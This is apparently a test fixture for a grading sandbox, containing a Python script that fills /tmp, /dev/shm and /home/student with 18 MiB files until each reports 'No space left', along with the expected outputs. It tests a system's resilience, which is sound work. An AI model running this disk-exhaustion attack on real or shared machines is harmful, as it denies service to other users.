"""Fills all folders that it can write to; right answers still get their points."""

# /// attack
# answers = "right"
# scores = "all"
# prints = ["/tmp No space left", "/dev/shm No space left", "/home/student No space left"]
# numbers = {wrote = [101, 150]}
# problems = []
# ///

# %% before
def fill(folder):
    size = number = 0
    try:
        while True:
            with open(f"{folder}/{number}", "wb", buffering=0) as file:
                for _ in range(18):
                    size += file.write(b"x" * 2**20)
            number += 1
    except OSError as error:
        print(folder, error.strerror)
    return size >> 20
print("wrote", sum(map(fill, ["/tmp", "/dev/shm", "/home/student"])))
